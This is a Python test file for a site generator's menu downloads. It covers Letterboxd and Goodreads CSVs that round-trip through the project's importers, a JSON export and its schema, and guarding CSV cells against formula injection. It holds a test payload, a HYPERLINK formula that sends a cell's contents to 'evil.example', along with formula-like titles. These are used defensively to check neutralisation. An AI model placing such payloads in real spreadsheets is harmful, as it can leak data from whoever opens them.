"""A menu's downloads: the Letterboxd and Goodreads files round-trip through Omakase's own
importers, every CSV is safe to open in a spreadsheet, and drafts have none."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import jsonschema
import pytest
import yaml
from click.testing import CliRunner

from generator.cli import main
from generator.engine.build import build
from generator.imports.goodreads import import_goodreads
from generator.imports.letterboxd import _read_list, import_letterboxd
from generator.site import api
from generator.site.menu_exports import GOODREADS_COLUMNS, LETTERBOXD_COLUMNS, neutralise, to_csv
from tests.conftest import settings_for
from tests.privacy import leaks, private_values
from tests.realdata import real
from tests.sitekit import BOOK, MENU, MOVIE, copy_sample, make_site

BASE = "https://menus.example.org/"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'

# The film knows its TMDB, IMDb and Letterboxd ids; a second film has a title a spreadsheet
# would run; the book knows its Goodreads id and has a second author.
FILM = MOVIE.format(title="The Conversation").replace(
    "  genres: [thriller]\n",
    "  genres: [thriller]\n  imdb_id: tt0071360\nsources:\n  - source: tmdb\n    id: '592'\n"
    "  - source: letterboxd\n    id: 2aHi\n    url: https://boxd.it/2aHi\n",
)
ODD_FILM = MOVIE.format(title="-1+1=@SUM(A1)").replace("release_date: 1974-04-07", "release_date: 2001-01-01")
A_BOOK = BOOK.format(title="The Crying of Lot 49", qid="Q1217219").replace(
    "authors: [Thomas Pynchon]", "authors: [Thomas Pynchon, Ann Other]"
)
MENU_TEXT = MENU.format(title="Paranoid Seventies", curator="ada", status="published", extra="").replace(
    "      - item: book/the-crying-of-lot-49\n",
    f"      - item: book/the-crying-of-lot-49\n        note: '{FORMULA}'\n"
    '      - item: movie/odd\n        note: "@everyone, a line\\nand \\"quotes\\", too"\n',
)


def _site(root: Path) -> Path:
    book = A_BOOK.replace("sources:\n", "sources:\n  - source: goodreads\n    id: '2089'\n")
    return make_site(
        root,
        {
            "content/items/movie/the-conversation.md": FILM,
            "content/items/movie/odd.md": ODD_FILM,
            "content/items/book/the-crying-of-lot-49.md": book,
            "content/menus/paranoid-seventies.md": MENU_TEXT,
        },
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = _site(tmp_path_factory.mktemp("exports") / "site")
    build(settings_for(root, base_url=BASE))
    return root


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_a_cell_that_would_run_as_a_formula_is_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for safe in ("1+1", "Solaris", " =1", "", "'quoted"):
        assert neutralise(safe) == safe
    assert neutralise(-3) == -3  # numbers are the site's own: positions, years
    data = to_csv([["a", "b"], ["=1+1", 'say "hi",\r\nthen go'], [None, api.Link("/x/")]], BASE)
    assert data.endswith(b"\r\n") and not data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [
        ["a", "b"],
        ["'=1+1", 'say "hi",\r\nthen go'],
        ["", "https://menus.example.org/x/"],
    ]


def test_the_letterboxd_list_has_the_importer_columns_and_the_films_ids(site: Path) -> None:
    rows = _rows(site / "output/menus/paranoid-seventies/letterboxd.csv")
    assert tuple(rows[0]) == LETTERBOXD_COLUMNS
    assert rows[1] == [
        "1",
        "The Conversation",
        "1974",
        "Francis Ford Coppola",
        "592",
        "tt0071360",
        "https://boxd.it/2aHi",
        "Watch it with headphones.",  # the note as plain text
    ]
    assert rows[2][:3] == ["2", "'-1+1=@SUM(A1)", "2001"]
    assert rows[2][7] == '\'@everyone, a line and "quotes", too'  # plain text, one line
    assert len(rows) == 3  # films only


def test_the_goodreads_file_has_the_export_columns(site: Path) -> None:
    rows = _rows(site / "output/menus/paranoid-seventies/goodreads.csv")
    assert tuple(rows[0]) == GOODREADS_COLUMNS
    book = dict(zip(rows[0], rows[1], strict=True))
    assert book["Book Id"] == "2089"
    assert (book["Title"], book["Author"], book["Author l-f"]) == (
        "The Crying of Lot 49",
        "Thomas Pynchon",
        "Pynchon, Thomas",
    )
    assert book["Additional Authors"] == "Ann Other"
    assert book["ISBN13"] == "9780060913076"
    assert book["Number of Pages"] == "152" and book["Original Publication Year"] == "1966"
    assert book["Exclusive Shelf"] == "to-read" and book["Bookshelves"] == "paranoid-seventies"
    assert book["My Review"] == "'" + FORMULA
    assert len(rows) == 2


def test_the_plain_csv_and_json_hold_every_item_in_menu_order(site: Path) -> None:
    out = site / "output/menus/paranoid-seventies"
    rows = _rows(out / "menu.csv")
    assert [(r[0], r[2], r[3], r[4]) for r in rows[1:]] == [
        ("1", "1", "movie", "The Conversation"),
        ("1", "2", "book", "The Crying of Lot 49"),
        ("1", "3", "movie", "'-1+1=@SUM(A1)"),
    ]
    film = dict(zip(rows[0], rows[1], strict=True))
    assert film["Note"] == "Watch it with *headphones*."  # Markdown, as written
    assert (film["tmdbID"], film["imdbID"]) == ("592", "tt0071360")
    assert film["Other IDs"] == "letterboxd:2aHi"
    assert film["URL"] == f"{BASE}items/movie/the-conversation/"
    document = json.loads((out / "menu.json").read_text(encoding="utf-8"))
    schema = json.loads((api.SCHEMAS_DIR / "menu-export.schema.json").read_text(encoding="utf-8"))
    jsonschema.validate(document, schema)
    items = document["courses"][0]["items"]
    assert [i["slug"] for i in items] == ["the-conversation", "the-crying-of-lot-49", "odd"]
    assert items[0]["ids"] == {"imdb": "tt0071360", "letterboxd": "2aHi", "tmdb": "592"}
    assert items[1]["ids"] == {"goodreads": "2089", "isbn": "9780060913076", "wikidata": "Q1217219"}
    assert items[1]["note"] == FORMULA  # JSON is not a spreadsheet: the note is as written
    assert items[0]["links"]["sources"] == {"letterboxd": "https://boxd.it/2aHi"}
    assert (site / "output/api/schemas/menu-export.schema.json").is_file()


def test_the_menu_page_links_its_downloads_and_card(site: Path) -> None:
    out = site / "output/menus"
    page = (out / "paranoid-seventies/index.html").read_text(encoding="utf-8")
    for name in ("letterboxd.csv", "goodreads.csv", "menu.csv", "menu.json", "card/index.html"):
        assert f'href="{name}"' in page, name
        assert (out / "paranoid-seventies" / name).is_file()
    card = (out / "paranoid-seventies/card/index.html").read_text(encoding="utf-8")
    assert '<meta name="robots" content="noindex">' in card
    assert "Watch it with headphones." in card
    assert "card/" not in (site / "output/sitemap.xml").read_text(encoding="utf-8")


def test_a_menu_without_films_or_books_has_no_tracker_file(tmp_path: Path) -> None:
    menu = MENU.format(title="Only Music", curator="ada", status="published", extra="")
    menu = (
        menu.split("courses:")[0] + "courses:\n  - title: One\n    items:\n      - item: music/dummy\n---\n"
    )
    album = "---\ntitle: Dummy\nrelease_date: 1994-08-22\nartists: [Portishead]\n---\nAn album.\n"
    root = make_site(tmp_path, {"content/menus/only-music.md": menu, "content/items/music/dummy.md": album})
    build(settings_for(root))
    out = root / "output/menus/only-music"
    assert sorted(p.name for p in out.iterdir()) == ["card", "index.html", "menu.csv", "menu.json"]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "letterboxd.csv" not in page and "goodreads.csv" not in page


def test_the_letterboxd_list_imports_back_as_the_same_films(site: Path, tmp_path: Path) -> None:
    """Omakase's Letterboxd importer reads the list as it reads an export's list files, and
    finds the very films the menu serves."""
    root = tmp_path / "site"
    shutil.copytree(site, root, ignore=shutil.ignore_patterns("output", "data"))
    download = root / "paranoid-seventies-letterboxd.csv"
    shutil.copy(site / "output/menus/paranoid-seventies/letterboxd.csv", download)
    summary = import_letterboxd(settings_for(root), download, "bruno")
    assert summary.created == set() and summary.skipped == []
    assert summary.matched == {"movie/the-conversation", "movie/odd"}
    # The list is named after its file; a menu of that name is there already, and kept.
    assert summary.menus_kept == ["paranoid-seventies"] and summary.menus_created == []
    text = (root / "content/menus/paranoid-seventies.md").read_text(encoding="utf-8")
    assert text == MENU_TEXT
    # Into a site of its own: a new draft menu of the same films, in the same order.
    fresh = make_site(tmp_path / "fresh", drop=("content/menus/paranoid-remix.md",))
    (fresh / "content/menus/paranoid-seventies.md").unlink()
    summary = import_letterboxd(settings_for(fresh), download, "ada")
    assert summary.menus_created == ["paranoid-seventies"]
    front = yaml.safe_load((fresh / "content/menus/paranoid-seventies.md").read_text().split("---\n")[1])
    assert front["status"] == "draft" and front["title"] == "Paranoid seventies"
    refs = [entry["item"] for entry in front["courses"][0]["items"]]
    assert refs[0] == "movie/the-conversation"  # found by title and year
    films = [
        yaml.safe_load((fresh / f"content/items/{ref}.md").read_text().split("---\n")[1]) for ref in refs
    ]
    assert [(f["title"], str(f["release_date"])[:4]) for f in films] == [
        ("The Conversation", "1974"),
        ("-1+1=@SUM(A1)", "2001"),  # the apostrophe that guarded it is gone
    ]
    assert [e.get("note") for e in front["courses"][0]["items"]] == [
        "Watch it with headphones.",
        '@everyone, a line and "quotes", too',
    ]
    assert [s["source"] for s in films[1]["sources"]] == ["letterboxd"]


def test_the_letterboxd_list_reads_as_the_real_list_files_do(site: Path) -> None:
    """The real list files of a Letterboxd export are the format reference: their films'
    columns and ours name the same things, and the importer reads both alike."""
    reference = real("exports/letterboxd/patrickmjones/lists/my-criterion-collection.csv")
    meta, films = _read_list(reference.read_text(encoding="utf-8-sig"), str(reference))
    assert meta[1] == "My Criterion Collection" and films[0].get("Name") == "The Seventh Seal"
    ours = site / "output/menus/paranoid-seventies/letterboxd.csv"
    _, rows = _read_list(ours.read_text(encoding="utf-8"), str(ours))
    assert set(films[0].values) <= set(rows[0].values)  # Position, Name, Year, URL, Description
    assert [(r.get("Position"), r.get("Name"), r.get("Year"), r.get("URL")) for r in rows] == [
        ("1", "The Conversation", "1974", "https://boxd.it/2aHi"),
        ("2", "-1+1=@SUM(A1)", "2001", ""),
    ]


def test_the_goodreads_file_is_read_back_by_the_goodreads_importer(site: Path, tmp_path: Path) -> None:
    download = site / "output/menus/paranoid-seventies/goodreads.csv"
    # Into the same site: the book is found by its Goodreads id, nothing is created.
    root = tmp_path / "site"
    shutil.copytree(site, root, ignore=shutil.ignore_patterns("output", "data"))
    summary = import_goodreads(settings_for(root), download, "bruno")
    assert (summary.rows, summary.imported, summary.skipped) == (1, 1, [])
    assert summary.matched == {"book/the-crying-of-lot-49"} and summary.created == set()
    log = yaml.safe_load((root / "content/logs/bruno.yaml").read_text(encoding="utf-8"))
    assert log["states"] == [{"item": "book/the-crying-of-lot-49", "status": "want"}]
    # Without a Goodreads id (a book Goodreads does not know), into a site without it.
    rows = _rows(download)
    rows[1][0] = ""
    bare = tmp_path / "bare.csv"
    with bare.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    fresh = make_site(tmp_path / "fresh", drop=("content/items/book/the-crying-of-lot-49.md",))
    for menu in (fresh / "content/menus").glob("*.md"):
        menu.unlink()
    summary = import_goodreads(settings_for(fresh), bare, "ada")
    assert summary.created == {"book/the-crying-of-lot-49"} and summary.skipped == []
    book = yaml.safe_load(
        (fresh / "content/items/book/the-crying-of-lot-49.md").read_text(encoding="utf-8").split("---\n")[1]
    )
    assert book["title"] == "The Crying of Lot 49"
    assert book["authors"] == ["Thomas Pynchon", "Ann Other"]
    assert str(book["isbn"]) == "9780060913076" and "sources" not in book


def test_a_draft_has_no_downloads_not_even_at_its_share_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OMAKASE_SHARE_SECRET", "a-secret-long-enough-for-share-links-0123456789")
    root = copy_sample(tmp_path / "site")
    draft = "the-house-remembers"
    assert "\nstatus: draft" in (root / f"content/menus/{draft}.md").read_text(encoding="utf-8")
    runner = CliRunner()
    shared = runner.invoke(main, ["share", draft, "--root", str(root)], catch_exceptions=False)
    assert shared.exit_code == 0, shared.output
    built = runner.invoke(main, ["build", "--root", str(root)], catch_exceptions=False)
    assert built.exit_code == 0, built.output
    output = root / "output"
    assert not (output / "menus" / draft).exists()
    (share,) = (output / "share").glob("*/index.html")
    assert sorted(p.name for p in share.parent.iterdir()) == ["index.html"]
    page = share.read_text(encoding="utf-8")
    assert "Take this menu home" not in page and ".csv" not in page and "card/" not in page
    private = private_values(root / "content")
    assert leaks(output, private, skip=("share/",)) == []


def test_the_output_scan_finds_a_formula_cell_in_a_csv(tmp_path: Path) -> None:
    from tests.outputscan import scan_output

    (tmp_path / "good.csv").write_text("Title,Note\r\nM,'=1+1\r\n", encoding="utf-8")
    (tmp_path / "bad.csv").write_text('Title,Note\r\nM,"@SUM(1,2)"\r\n', encoding="utf-8")
    assert scan_output(tmp_path) == ["bad.csv: row 2: a cell starts as a formula: '@SUM(1,2)'"]
